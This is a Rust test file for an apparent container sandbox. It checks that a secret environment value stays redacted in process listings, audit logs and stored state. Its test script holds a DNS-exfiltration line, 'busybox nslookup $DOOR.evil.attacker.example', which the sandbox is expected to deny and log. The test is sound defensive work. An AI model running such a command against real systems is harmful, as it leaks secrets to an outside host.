//! Is what a container was given by its environment written or told anywhere?

use std::fs;
use std::path::Path;

use serde_json::json;

use crate::scene::Scene;
use crate::world::said;

const VALUE: &str = "sesame-Open_4711";

/// All files below, as text.
fn written(place: &Path) -> String {
    let entries = fs::read_dir(place).into_iter().flatten().flatten().map(|entry| entry.path());
    let texts = entries.map(|path| match path.is_dir() {
        true => written(&path),
        false => String::from_utf8_lossy(&fs::read(&path).unwrap_or_default()).into_owned(),
    });
    texts.collect()
}

#[test]
fn what_a_containers_environment_holds_is_in_no_log_record_or_statement() {
    let scene = Scene::new();
    // As a name, and as a command's argument.
    let script =
        format!("busybox nslookup $DOOR.evil.attacker.example >/dev/null 2>&1; echo ready; : {VALUE}; read -r line");
    let mut bundle = scene.bundle(&script);
    bundle.configuration["process"]["env"].as_array_mut().unwrap().push(json!(format!("DOOR={VALUE}")));
    let contained = scene.contained(scene.command(&bundle));
    let told = said(&mut scene.bottle(&["ps", "--json"]));
    assert!(!told.ok().contains(VALUE) && told.out.contains("redacted DOOR"), "{told:?}");
    contained.finish();
    scene.assert_nothing_left();
    let log = scene.verified();
    let denied = log.iter().find(|entry| entry["kind"] == "dns.denied").unwrap();
    assert!(denied.to_string().contains("redacted DOOR"), "{denied}");
    let kept = written(&scene.path("state")).to_lowercase();
    assert!(kept.contains("dns.denied") && !kept.contains(&VALUE.to_lowercase()));
}
